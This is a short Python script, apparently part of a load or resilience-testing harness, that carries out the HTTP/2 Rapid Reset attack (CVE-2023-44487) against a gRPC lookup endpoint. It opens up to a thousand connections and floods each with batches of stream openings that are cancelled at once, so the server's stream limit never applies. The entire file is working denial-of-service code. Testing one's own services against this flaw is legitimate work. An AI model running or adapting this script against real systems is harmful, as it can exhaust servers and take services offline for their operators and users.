"""Rapid reset (CVE-2023-44487): cancels calls as soon as they are made, so that
the limit of calls on a connection never takes effect."""

import attack
import http2

PATH = "/vtlookup.v1.LookupService/Lookup"
AT_ONCE = 200


def run(target, stage):
    """As many calls as the peer takes, each followed by its end."""
    block = http2.grpc_headers(PATH, tls=target.tls)
    calls = 0
    while not stage.over() and len(stage.held) < 1000:
        connection = http2.Connection(target)
        stage.held.append(connection)
        more = True
        while more and not stage.over():
            frames = []
            for _ in range(AT_ONCE):
                stream = connection.new_stream()
                frames += [http2.frame(http2.HEADERS, http2.END_HEADERS, stream,
                                       block), http2.rst_stream(stream)]
            more = connection.send(b"".join(frames), 0.5)
            calls += AT_ONCE
            connection.pump(0)
    stage.figures["calls"] = calls
    stage.figures["connections"] = len(stage.held)


if __name__ == "__main__":
    attack.main(run, seconds=5)
